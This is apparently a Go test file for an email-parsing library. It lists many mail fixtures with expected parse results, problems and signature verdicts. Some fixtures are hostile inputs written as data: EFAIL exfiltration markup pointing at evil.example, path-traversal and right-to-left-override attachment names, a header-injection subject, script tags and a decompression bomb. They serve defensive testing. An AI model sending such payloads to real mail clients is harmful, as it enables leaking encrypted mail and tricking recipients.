package readtest

import (
	"fmt"
	"slices"
	"strings"

	"steward/internal/base/sign"
	"steward/internal/mail/read"
)

// Odd is a mail and what becomes of it. Texts are looked for within the
// message's; what is not named must not be there.
type Odd struct {
	Name, Mail    string
	Subject       string // "": A hole
	Text, Outside string
	Files, Beyond []string // names of attachments, and of those outside
	Problems      []read.Code
	Kind          read.Kind
	Form          read.Form
	Encrypted     bool
	Verdict       sign.Verdict
	Keys          int
}

const hello = "Content-Type: text/plain\n\nHello there\n"

// letters are ordinary structures of mailers, and odd ones.
func letters() []Odd {
	tnef := file("winmail.dat", "application/ms-tnef", "\x78\x9f\x3e\x22")
	return []Odd{
		{Name: "plain", Mail: Top + hello, Text: "Hello there"},
		{Name: "older than MIME", Mail: "From: ann@example.net\nSubject: A hole\n\nHello there", Text: "Hello there"},
		{Name: "content type text", Mail: Top + "Content-Type: text\n\nHello there", Text: "Hello there", Problems: []read.Code{read.BadType}},
		{Name: "no body", Mail: Top},
		{Name: "no header", Mail: "\nHello there\n", Text: "Hello there", Problems: []read.Code{read.NoFrom}, Subject: "-"},
		{Name: "nothing", Mail: "", Problems: []read.Code{read.NoFrom}, Subject: "-"},
		{Name: "LF only", Mail: "LF" + Top + hello, Text: "Hello there"},
		{Name: "CR only", Mail: "LF" + strings.ReplaceAll(Top+hello, "\n", "\r"), Problems: []read.Code{read.BareLine, read.BadAddress, read.NoFrom}, Subject: "-"},
		{Name: "bare CR", Mail: Top + "\nHello\rthere", Text: "Hello\nthere", Problems: []read.Code{read.BareLine}},
		{Name: "NULs", Mail: Top + "\nHel\x00lo", Text: "Hel lo", Files: []string{"part-1.bin"}, Problems: []read.Code{read.ControlChars}},
		{Name: "mailbox line", Mail: "From ann@example.net Fri Nov 20\n" + Top + hello, Text: "Hello there"},
		{Name: "Gmail", Mail: Top + Multi("alternative", Text("Hello *there*"), Page("<div dir=ltr>Hello <b>there</b></div>")), Text: "Hello *there*"},
		{Name: "HTML only", Mail: Top + Page("<html><head><title>T</title><style>p{}</style></head><body><p>Hello<br>there &amp; <script>alert(1)</script><a href=\"https://evil.example/x\">https://example.org</a></body>"),
			Text: "Hello\nthere & https://example.org <https://evil.example/x>"},
		{Name: "empty plain beside HTML", Mail: Top + Multi("alternative", Text(" \n"), Page("<p>Hello there")), Text: "Hello there"},
		{Name: "Outlook", Mail: Top + Multi("related", Multi("alternative", Text("Hello there"), Page("<img src=cid:1>")), file("image001.png", "image/png", "PNG")), Text: "Hello there", Files: []string{"image001.png"}},
		{Name: "Outlook with TNEF", Mail: Top + Multi("mixed", Text("Hello there"), tnef), Text: "Hello there", Files: []string{"winmail.dat"}, Problems: []read.Code{read.TNEF}},
		{Name: "Apple", Mail: Top + Multi("alternative", Text("Hello there"), Multi("mixed", Page("Hello"), file("a.pdf", "application/pdf", "%PDF"), Page("there"))), Text: "Hello there", Files: []string{"a.pdf"}},
		{Name: "texts around a file", Mail: Top + Multi("mixed", Text("Hello"), file("a.txt", "text/plain", "x"), Text("there")), Text: "Hello\n\nthere", Files: []string{"a.txt"}},
		{Name: "forwarded", Mail: Top + Multi("mixed", Text("See this"), "Content-Type: message/rfc822\n\nSubject: inner\n\nHello"), Text: "See this", Files: []string{"part-1.eml"}},
		{Name: "forwarded inline", Mail: Top + "\n---------- Forwarded message ---------\nFrom: Bob <b@example.com>\n\nHello there", Text: "Hello there"},
		{Name: "invitation", Mail: Top + Multi("alternative", Text("Meet"), Page("Meet"), "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR"), Text: "Meet", Files: []string{"part-1.ics"}},
		{Name: "uuencoded", Mail: Top + "\nbegin 644 a.txt\n#0V%T\n`\nend\n", Text: "begin 644 a.txt"},
		{Name: "yEnc", Mail: "LF" + Top + "Content-Type: text/plain; charset=iso-8859-1\n\n=ybegin line=128 size=3 name=a\nr\x8f\x96\n=yend\n", Text: "=ybegin", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadCharset}},
		{Name: "S/MIME signed", Mail: Top + Multi(`signed; protocol="application/pkcs7-signature"`, Text("Hello there"), file("smime.p7s", "application/pkcs7-signature", "x")), Text: "Hello there", Files: []string{"smime.p7s"}, Form: read.FormSMIME},
		{Name: "S/MIME encrypted", Mail: Top + file("smime.p7m", "application/pkcs7-mime", "x"), Files: []string{"smime.p7m"}, Form: read.FormSMIME},
		{Name: "flowed", Mail: Top + "Content-Type: text/plain; format=flowed; delsp=yes\n\nHello \nthere", Text: "Hello \nthere"},
		{Name: "mailing list", Mail: "List-Id: Some <some.example.net>\nPrecedence: bulk\n" + Top + hello, Text: "Hello there"},
		{Name: "spam", Mail: "X-Spam-Flag: YES\n" + Top + hello, Text: "Hello there"},
	}
}

// broken are mails that are not as they should be.
func broken() []Odd {
	return []Odd{
		{Name: "wrong character set", Mail: Top + "Content-Type: text/plain; charset=utf-8\n\nGr\xfc\xdfe", Text: "Grüße", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadCharset}},
		{Name: "Latin-1", Mail: Top + "Content-Type: text/plain; charset=ISO-8859-1\n\nGr\xfc\xdfe", Text: "Grüße"},
		{Name: "Shift_JIS", Mail: Top + "Content-Type: text/plain; charset=Shift_JIS\n\n\x83e\x83X\x83g", Text: "テスト"},
		{Name: "KOI8-R in base64", Mail: Top + "Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: base64\n\n" + b64("\xf0\xd2\xc9"), Text: "При"},
		{Name: "unknown character set", Mail: Top + "Content-Type: text/plain; charset=x-klingon\n\nHello \xe9", Text: "Hello é", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadCharset}},
		{Name: "UTF-7", Mail: Top + "Content-Type: text/plain; charset=utf-7\n\n+ADw-script+AD4-", Text: "+ADw-script+AD4-", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadCharset}},
		{Name: "raw bytes in the subject", Mail: strings.Replace(Top, "A hole", "Gr\xfc\xdfe", 1) + hello, Subject: "Grüße", Text: "Hello there", Problems: []read.Code{read.BadCharset}},
		{Name: "encoded subject", Mail: strings.Replace(Top, "A hole", "=?utf-8?B?R3LDvA==?=\n =?utf-8?Q?=C3=9Fe?=", 1) + hello, Subject: "Grüße", Text: "Hello there"},
		{Name: "injected line", Mail: strings.Replace(Top, "A hole", "=?utf-8?Q?a=0D=0ABcc:_x?=", 1) + hello, Subject: "a Bcc: x", Text: "Hello there", Problems: []read.Code{read.ControlChars}},
		{Name: "base64 garbage", Mail: Top + "Content-Transfer-Encoding: base64\n\nSGVsbG8*!gdGhlcmU=\n", Text: "Hello there", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadEncoding}},
		{Name: "base64 cut off", Mail: Top + "Content-Transfer-Encoding: base64\n\nSGVsbG8gdGhlcmUhX", Text: "Hello there!", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadEncoding}},
		{Name: "quoted-printable garbage", Mail: Top + "Content-Transfer-Encoding: quoted-printable\n\nHello=\n there =ZZ", Text: "Hello there =ZZ", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadEncoding}},
		{Name: "unknown encoding", Mail: Top + "Content-Transfer-Encoding: rot13\n\nUryyb", Text: "Uryyb", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadEncoding}},
		{Name: "no boundary named", Mail: Top + "Content-Type: multipart/mixed\n\nHello there", Text: "Hello there", Problems: []read.Code{read.NoBoundary}},
		{Name: "no boundary in the mail", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\nHello there", Text: "Hello there", Problems: []read.Code{read.NoBoundary}},
		{Name: "no last boundary", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\n--x\n" + Text("Hello there"), Text: "Hello there", Problems: []read.Code{read.NoEnd}},
		{Name: "boundary that begins another", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\n--xy\nno\n--x\n" + Text("Hello there") + "\n--x--\n", Text: "Hello there", Problems: []read.Code{read.AroundParts}},
		{Name: "text after the parts", Mail: Top + Multi("mixed", Text("Hello there")) + "list footer\n", Text: "Hello there", Problems: []read.Code{read.AroundParts}},
		{Name: "two boundaries named", Mail: Top + "Content-Type: multipart/mixed; boundary=x; boundary=y\n\n--x\n" + Text("Hello there") + "\n--x--\n", Text: "Hello there", Problems: []read.Code{read.BadType}},
		{Name: "repeated fields", Mail: "Subject: first\nFrom: eve@example.com\n" + Top + hello, Subject: "first", Text: "Hello there", Problems: []read.Code{read.Repeated, read.SeveralFrom}},
		{Name: "several senders", Mail: strings.Replace(Top, "From: ", "From: Bob <b@example.com>, ", 1) + hello, Text: "Hello there", Problems: []read.Code{read.SeveralFrom}},
		{Name: "address in the name", Mail: strings.Replace(Top, "Ann <", `"security@example.org" <`, 1) + hello, Text: "Hello there"},
		{Name: "address unquoted", Mail: strings.Replace(Top, "Ann <", `A. (x) Nn [1] <`, 1) + hello, Text: "Hello there"},
		{Name: "no address", Mail: strings.Replace(Top, "Ann <ann@example.net>", "Ann", 1) + hello, Text: "Hello there", Problems: []read.Code{read.BadAddress, read.NoFrom}},
		{Name: "undisclosed", Mail: strings.Replace(Top, "security@example.org", "undisclosed-recipients:;", 1) + hello, Text: "Hello there"},
		{Name: "bad date", Mail: strings.Replace(Top, "Fri, 20 Nov 2026", "Someday", 1) + hello, Text: "Hello there", Problems: []read.Code{read.BadDate}},
		{Name: "no field", Mail: "What is this line\n" + Top + hello, Text: "Hello there", Problems: []read.Code{read.HeaderLine}},
		{Name: "space before the colon", Mail: strings.Replace(Top, "Subject:", "Subject :", 1) + hello, Text: "Hello there"},
		{Name: "folding from the first line", Mail: " folded\n" + Top + hello, Text: "Hello there", Problems: []read.Code{read.HeaderTooLarge}},
		{Name: "names of files", Mail: Top + Multi("mixed", Text("Hello there"),
			file("../../etc/passwd", "text/plain", "x"), file("invoice\u202efdp.exe", "application/pdf", "x"), file(`C:\\a\\b.txt`, "text/plain", "x"),
			"Content-Type: text/plain; name=\"=?utf-8?Q?Gr=C3=BC=C3=9Fe.txt?=\"\nContent-Disposition: attachment\n\nx",
			"Content-Disposition: attachment; filename*=utf-8''Gr%C3%BC%C3%9Fe.txt\n\nx",
			"Content-Disposition: attachment; filename*0=long; filename*1=er.txt\n\nx",
			"Content-Disposition: evil; filename=\"..\"\n\nx"),
			Text: "Hello there", Files: []string{"passwd", "invoicefdp.exe", "b.txt", "Grüße.txt", "Grüße.txt", "longer.txt", "part-7.txt"}, Problems: []read.Code{read.BadName, read.ControlChars}},
		{Name: "disposition garbage", Mail: Top + "Content-Disposition: ;;;=\"\n\nHello there", Files: []string{"part-1.txt"}},
		{Name: "type garbage", Mail: Top + "Content-Type: ///;;\"\n\nHello there", Files: []string{"part-1.bin"}, Problems: []read.Code{read.BadType}},
	}
}

// large are mails beyond the limits.
func large() []Odd {
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	return []Odd{
		{Name: "10,000 recipients", Mail: "Cc: " + many(10000, func(i int) string { return fmt.Sprintf("a%d@example.net,\n ", i) }) + "z@example.net\n" + Top + hello, Text: "Hello there", Problems: []read.Code{read.HeaderTooLarge, read.ManyAddresses}},
		{Name: "a line of 1 MB", Mail: "X-Long: " + strings.Repeat("x", 1<<20) + "\n" + Top + hello, Subject: "-", Text: "Hello there", Problems: []read.Code{read.HeaderTooLarge, read.NoFrom}},
		{Name: "many fields", Mail: Top + many(5000, func(i int) string { return "X-Y: z\n" }) + "\nHello there", Text: "Hello there", Problems: []read.Code{read.HeaderTooLarge}},
		{Name: "1000 deep", Mail: Top + deep(1000), Files: []string{"part-1.bin"}, Problems: []read.Code{read.TooDeep, read.NoEnd}},
		{Name: "5000 parts", Mail: Top + Multi("mixed", many(5000, func(i int) string { return Text("a") + "\n--X\n" })) + "", Text: "a", Problems: nil},
		{Name: "2000 parts", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\n" + many(2000, func(i int) string { return "--x\n\nhi\n" }) + "--x--\n", Text: "hi", Files: []string{"more-parts.txt"}, Problems: []read.Code{read.TooManyParts}},
		{Name: "300 files", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\n" + many(300, func(i int) string { return "--x\nContent-Disposition: attachment; filename=a.txt\n\nhi\n" }) + "--x--\n", Files: slices.Repeat([]string{"a.txt"}, 200), Problems: []read.Code{read.ManyAttachments}},
		{Name: "a text of 5 MB", Mail: Top + "\n" + strings.Repeat("words and words\n", 5<<16), Text: "words", Files: []string{"part-1.bin"}, Problems: []read.Code{read.TextTooLong}},
		{Name: "30 MB", Mail: Top + "Content-Type: application/zip\n\n" + strings.Repeat("x", 30<<20), Files: []string{"part-1.bin"}, Problems: []read.Code{read.TooLarge}},
		{Name: "boundaries everywhere", Mail: Top + "Content-Type: multipart/mixed; boundary=x\n\n" + strings.Repeat("--xx\n", 1<<20), Problems: []read.Code{read.NoBoundary, read.TextTooLong}, Text: "--xx", Files: []string{"part-1.bin"}},
		{Name: "tags everywhere", Mail: Top + Page(strings.Repeat("<div><a href=http://x>", 1<<16)), Text: ""},
		{Name: "brackets everywhere", Mail: "To: " + strings.Repeat("<(\"", 20000) + "\nReferences: " + strings.Repeat("<<>", 20000) + "\n" + Top + hello, Text: "Hello there", Problems: []read.Code{read.BadAddress, read.Repeated}},
		{Name: "armor everywhere", Mail: Top + "\n" + strings.Repeat(begin+"\n", 30000), Text: begin, Problems: []read.Code{read.SeveralParts}},
	}
}

// machines are mails that nobody answers.
func machines() []Odd {
	auto := func(name, header string) Odd {
		return Odd{Name: name, Mail: header + Top + hello, Text: "Hello there", Kind: read.KindAutoReply}
	}
	status := "Reporting-MTA: dns; mx.example.net\n\nFinal-Recipient: rfc822; bob@Example.com\nAction: failed\nStatus: 5.1.1\n"
	returned := "Content-Type: text/rfc822-headers\n\nMessage-ID: <case-1@steward.example.org>\nSubject: x\n"
	whole := "Content-Type: message/rfc822\n\nMessage-ID: <case-1@steward.example.org>\nSubject: x\n\nHi"
	bounce := func(name, mail string, files ...string) Odd {
		return Odd{Name: name, Mail: mail, Kind: read.KindBounce, Files: files, Subject: "-", Text: ""}
	}
	qmail := "Return-Path: <>\nFrom: MAILER-DAEMON@example.com\nSubject: failure notice\n\nHi. This is the qmail-send program.\n\n<bob@example.com>:\nSorry, no mailbox here by that name.\n\n--- Below this line is a copy of the message.\n\nMessage-ID: <case-1@steward.example.org>\n"
	exim := "From: Mail Delivery System <Mailer-Daemon@example.com>\nX-Failed-Recipients: bob@example.com\nAuto-Submitted: auto-replied\nSubject: Mail delivery failed: returning message to sender\n\nThis message was created automatically.\nMessage-Id: <case-1@steward.example.org>\n"
	return []Odd{
		bounce("Postfix", dsn("example.com", status, returned), "part-1.bin", "part-2.bin"),
		bounce("Exchange", dsn("example.com", status, whole), "part-1.bin", "part-2.eml"),
		bounce("sendmail, late", dsn("example.com", strings.ReplaceAll(strings.Replace(status, "failed", "delayed", 1), "5.1.1", "4.4.1"), returned), "part-1.bin", "part-2.bin"),
		bounce("qmail", qmail), bounce("Exim", exim),
		auto("vacation", "Auto-Submitted: auto-replied\n"),
		auto("Exchange out of office", "X-Auto-Response-Suppress: All\nAuto-Submitted: auto-generated\n"),
		auto("Precedence", "Precedence: auto_reply\n"),
		auto("X-Autoreply", "X-Autoreply: yes\n"),
		auto("cPanel", "X-Autorespond: A hole\n"),
		{Name: "out of office by its subject", Mail: strings.Replace(Top, "A hole", "=?utf-8?Q?Automatische_Antwort:_x?=", 1) + hello, Subject: "Automatische Antwort: x", Text: "Hello there", Kind: read.KindAutoReply},
		{Name: "not automatic", Mail: "Auto-Submitted: no\n" + Top + hello, Text: "Hello there"},
		{Name: "read receipt", Mail: Top + Multi("report; report-type=disposition-notification", Text("Read"), "Content-Type: message/disposition-notification\n\nDisposition: manual"), Text: "Read", Kind: read.KindAutoReply, Files: []string{"part-1.bin"}},
		{Name: "our own", Mail: strings.Replace(Top, "ann@example.net", "security@EXAMPLE.org", 1) + hello, Text: "Hello there", Kind: read.KindLoop},
		{Name: "our own identifier", Mail: strings.Replace(Top, "1@example.net", "1@steward.example.org", 1) + hello, Text: "Hello there", Kind: read.KindLoop},
		{Name: "X-Loop", Mail: "X-Loop: security@example.org\n" + Top + hello, Text: "Hello there", Kind: read.KindLoop},
		{Name: "many hops", Mail: strings.Repeat("Received: from a by b\n", 51) + Top + hello, Text: "Hello there", Kind: read.KindLoop},
		{Name: "a bounce of a loop", Mail: "Auto-Submitted: auto-replied\nX-Loop: security@example.org\n" + Top + hello, Text: "Hello there", Kind: read.KindLoop},
	}
}

// Protected are encrypted and signed mails, and attacks on them.
func Protected(w *World) []Odd {
	inner := Text("The secret\n")
	key := string(w.Them.PublicKey())
	mime, sgn := read.FormMIMEEncrypted, read.FormMIMESigned
	autocrypt := func(addr, more string) string {
		b := strings.Split(strings.SplitN(key, "\n\n", 2)[1], "\n=")[0]
		return "Autocrypt: addr=" + addr + "; " + more + "keydata=\n " + strings.ReplaceAll(b, "\n", "\n ") + "\n"
	}
	img := func(s string) string { return Page(s) }
	mangled := strings.Replace(w.pgpMIME(inner), "multipart/encrypted", "multipart/mixed", 1)
	return []Odd{
		{Name: "PGP/MIME", Mail: Top + w.pgpMIME(inner), Text: "The secret", Form: mime, Encrypted: true},
		{Name: "PGP/MIME, LF only", Mail: "LF" + Top + w.pgpMIME(inner), Text: "The secret", Form: mime, Encrypted: true},
		{Name: "Thunderbird", Mail: strings.Replace(Top, "A hole", "...", 1) + w.pgpMIME(w.signed("Content-Type: text/plain; protected-headers=\"v1\"\nSubject: The real one\nFrom: Ann <ann@example.net>\n\nThe secret\n")), Subject: "The real one", Text: "The secret", Form: mime, Encrypted: true, Verdict: sign.Good},
		{Name: "legacy display", Mail: strings.Replace(Top, "A hole", "...", 1) + w.pgpMIME("Subject: The real one\n"+Multi("mixed; protected-headers=v1", "Content-Type: text/rfc822-headers; protected-headers=v1\n\nSubject: The real one\n", inner)), Subject: "The real one", Text: "The secret", Form: mime, Encrypted: true},
		{Name: "protected sender differs", Mail: Top + w.pgpMIME("From: eve@example.com\n"+inner), Text: "The secret", Form: mime, Encrypted: true, Problems: []read.Code{read.FromDiffers}},
		{Name: "with a file and a key", Mail: Top + w.pgpMIME(Multi("mixed", inner, file("poc.c", "text/x-c", "int main"), file("k.asc", "application/pgp-keys", key))), Text: "The secret", Files: []string{"poc.c", "k.asc"}, Form: mime, Encrypted: true, Keys: 1},
		{Name: "changed by Exchange", Mail: Top + mangled, Text: "The secret", Form: mime, Encrypted: true},
		{Name: "with a list footer", Mail: Top + Multi("mixed", w.pgpMIME(inner), Text("Unsubscribe")), Text: "The secret", Outside: "Unsubscribe", Form: mime, Encrypted: true, Problems: []read.Code{read.Unprotected}},
		{Name: "signed around encrypted", Mail: Top + w.signed(w.pgpMIME(inner)), Text: "The secret", Form: mime, Encrypted: true, Verdict: sign.Good},
		{Name: "K-9 signed", Mail: Top + w.signed(inner), Text: "The secret", Form: sgn, Verdict: sign.Good},
		{Name: "mutt signed with a file", Mail: Top + w.signed(Multi("mixed", inner, file("a.txt", "text/plain", "x"))), Text: "The secret", Files: []string{"a.txt"}, Form: sgn, Verdict: sign.Good},
		{Name: "signed and altered", Mail: Top + strings.Replace(w.signed(inner), "The secret", "The segret", 1), Text: "The segret", Form: sgn, Verdict: sign.Bad},
		{Name: "signed, with a list footer", Mail: Top + Multi("mixed", w.signed(inner), Text("Unsubscribe")), Text: "The secret", Outside: "Unsubscribe", Form: sgn, Verdict: sign.Good, Problems: []read.Code{read.Unprotected}},
		{Name: "another part in the signed one", Mail: Top + strings.Replace(w.signed(inner), "Content-Type: application/pgp-signature", "Content-Type: application/pgp-signature; x=y", 1), Text: "The secret", Form: sgn, Verdict: sign.Good},
		{Name: "inline", Mail: Top + "\n" + w.to("The secret\n"), Text: "The secret", Form: read.FormInlineEncrypted, Encrypted: true},
		{Name: "inline with text around", Mail: Top + "\nHi,\n" + w.to("The secret\n") + "Bye\n", Text: "The secret", Outside: "Hi,\n\nBye", Form: read.FormInlineEncrypted, Encrypted: true, Problems: []read.Code{read.Unprotected}},
		{Name: "inline in HTML", Mail: Top + Page("<pre>"+w.to("The secret\n")+"</pre>"), Text: "The secret", Form: read.FormInlineEncrypted, Encrypted: true},
		{Name: "inline, two", Mail: Top + "\n" + w.to("The secret\n") + w.to("Another\n"), Text: "The secret", Outside: begin, Form: read.FormInlineEncrypted, Encrypted: true, Problems: []read.Code{read.SeveralParts, read.Unprotected}},
		{Name: "inline signed", Mail: Top + "\n" + w.clear("The secret\n"), Text: "The secret", Form: read.FormInlineSigned, Verdict: sign.Good},
		{Name: "inline signed with text around", Mail: Top + "\nNot signed\n" + w.clear("The secret\n"), Text: "The secret", Outside: "Not signed", Form: read.FormInlineSigned, Verdict: sign.Good, Problems: []read.Code{read.Unprotected}},
		{Name: "inline signed and altered", Mail: Top + "\n" + strings.Replace(w.clear("The secret\n"), "The", "Teh", 1), Text: "Teh secret", Form: read.FormInlineSigned, Verdict: sign.Bad},
		{Name: "broken armor", Mail: Top + "\n" + strings.Replace(w.to("The secret\n"), "\n\n", "\n\n!!!!", 1), Outside: begin, Form: read.FormInlineEncrypted, Problems: []read.Code{read.NotOpened, read.Unprotected}},
		{Name: "half an armor", Mail: Top + "\n" + w.to("The secret\n")[:100], Text: begin},
		{Name: "encrypted to another", Mail: Top + Multi("encrypted", "Content-Type: application/pgp-encrypted\n\nVersion: 1", "Content-Type: application/octet-stream; name=encrypted.asc\n\n"+must(sign.EncryptTo(w.Them.PublicKey(), []byte("x"), Noon))), Beyond: []string{"encrypted.asc"}, Form: mime, Problems: []read.Code{read.NotOpened, read.Unprotected}},
		{Name: "EFAIL: no integrity", Mail: Top + Multi("encrypted", "Content-Type: application/pgp-encrypted\n\nVersion: 1", "Content-Type: application/octet-stream\n\n"+w.unprotected(CRLF(inner))), Beyond: []string{"part-1.bin"}, Form: mime, Problems: []read.Code{read.NotOpened, read.Unprotected}},
		{Name: "EFAIL: CBC gadget", Mail: Top + "\n" + w.unprotected("Content-Type: text/html\n\n<img src=\"http://evil.example/"), Outside: begin, Form: read.FormInlineEncrypted, Problems: []read.Code{read.NotOpened, read.Unprotected}},
		{Name: "EFAIL: direct exfiltration", Mail: Top + Multi("mixed", img("<img src=\"http://evil.example/"), w.pgpMIME(inner), img("\">")), Text: "The secret", Outside: "\">", Form: mime, Encrypted: true, Problems: []read.Code{read.Unprotected}},
		{Name: "EFAIL: in an alternative", Mail: Top + Multi("alternative", Text("Read me"), w.pgpMIME(inner), img("<b>Reply</b>")), Text: "The secret", Form: mime, Encrypted: true},
		{Name: "EFAIL: two encrypted parts", Mail: Top + Multi("mixed", w.pgpMIME(inner), w.pgpMIME(Text("Another"))), Text: "The secret", Beyond: []string{"encrypted.asc"}, Form: mime, Encrypted: true, Problems: []read.Code{read.SeveralParts, read.Unprotected}},
		{Name: "encrypted in encrypted", Mail: Top + w.pgpMIME(w.pgpMIME(inner)), Files: []string{"encrypted.asc"}, Form: mime, Encrypted: true, Problems: []read.Code{read.SeveralParts}},
		{Name: "decryption oracle in a forwarded mail", Mail: Top + Multi("mixed", Text("Please read"), "Content-Type: message/rfc822\n\n"+Top+w.pgpMIME(inner)), Text: "Please read", Files: []string{"part-1.eml"}},
		{Name: "decompression bomb", Mail: Top + "\n" + w.bomb(200<<20), Outside: begin, Form: read.FormInlineEncrypted, Problems: []read.Code{read.NotOpened, read.Unprotected}},
		{Name: "1000 deep, encrypted", Mail: Top + w.pgpMIME(deep(1000)), Files: []string{"part-1.bin"}, Form: mime, Encrypted: true, Problems: []read.Code{read.TooDeep, read.NoEnd}},
		{Name: "key in the text", Mail: Top + "\nMy key:\n" + key, Text: "My key", Keys: 1},
		{Name: "key as a file", Mail: Top + Multi("mixed", Text("Hello there"), file("0x1.asc", "application/octet-stream", key)), Text: "Hello there", Files: []string{"0x1.asc"}, Keys: 1},
		{Name: "Autocrypt", Mail: autocrypt("ann@example.net", "prefer-encrypt=mutual; _x=1; ") + Top + hello, Text: "Hello there", Keys: 1},
		{Name: "Autocrypt of another", Mail: autocrypt("eve@example.com", "") + Top + hello, Text: "Hello there", Problems: []read.Code{read.BadAutocrypt}},
		{Name: "Autocrypt twice", Mail: autocrypt("ann@example.net", "") + autocrypt("ann@example.net", "") + Top + hello, Text: "Hello there", Problems: []read.Code{read.BadAutocrypt}},
		{Name: "Autocrypt with more", Mail: autocrypt("ann@example.net", "critical=1; ") + Top + hello, Text: "Hello there", Problems: []read.Code{read.BadAutocrypt}},
	}
}

// Corpus is every mail of the table.
func Corpus(w *World) []Odd {
	return slices.Concat(letters(), broken(), large(), machines(), Protected(w))
}

// Wire gives a mail as it comes: with CRLF unless it says otherwise.
func (o Odd) Wire() []byte {
	if s, ok := strings.CutPrefix(o.Mail, "LF"); ok {
		return []byte(s)
	}
	return []byte(CRLF(o.Mail))
}
